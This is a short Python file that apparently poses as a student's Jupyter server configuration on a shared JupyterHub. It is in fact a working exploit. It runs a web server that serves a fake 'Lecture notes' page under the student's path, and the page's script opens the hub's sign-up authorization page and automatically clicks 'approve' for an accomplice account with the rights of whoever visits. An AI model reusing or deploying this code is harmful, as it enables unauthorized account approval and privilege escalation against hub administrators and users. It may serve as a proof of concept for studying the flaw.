"""A student's ~/.jupyter/jupyter_server_config.py: Jupyter reads it, and is a web server of the student's.

Every address below /user/<student>/ then is a page whose script opens the hub's page of sign-ups in a window
and presses "Approve" for an accomplice, with the rights of whoever was lured there.
"""

import http.server

ACCOMPLICE = "eve"
PAGE = f"""<!doctype html><title>Lecture notes</title><h1>Lecture notes</h1><script>
const hub = window.open("/hub/authorize");
const timer = setInterval(() => {{
  const button = hub.document.querySelector("#user-{ACCOMPLICE} button[value=approve]");
  if (button) {{ clearInterval(timer); button.click(); document.title = "approved"; }}
}}, 50);
</script>""".encode()


class Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.end_headers()
        self.wfile.write(PAGE)


http.server.ThreadingHTTPServer(("127.0.0.1", 8888), Hostile).serve_forever()
